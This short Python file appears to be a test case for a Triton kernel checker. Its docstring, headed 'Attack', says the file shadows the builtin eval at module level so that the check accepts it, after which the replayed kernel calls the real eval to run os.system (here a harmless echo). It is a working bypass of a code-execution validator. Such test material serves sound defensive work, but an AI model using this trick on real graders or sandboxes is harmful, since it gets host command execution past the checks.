"""Attack: a module-level name the plan cannot record (a function) that shadows a builtin: the kernel checker let it
pass as "defined in your code", the plan dropped it, and the replay's kernel found the real builtin eval."""

import torch
import triton
import triton.language as tl

eval = print  # shadowed here, so that the kernel's eval passed the check


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    eval("__import__('os').system('echo reached the host')")
    offsets = tl.program_id(0) * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    tl.store(out_ptr + offsets, tl.load(x_ptr + offsets, mask=mask) + tl.load(y_ptr + offsets, mask=mask), mask=mask)


def vector_add(x, y):
    out = torch.empty_like(x)
    add_kernel[(triton.cdiv(x.numel(), 1024),)](x, y, out, x.numel(), BLOCK_SIZE=1024)
    return out
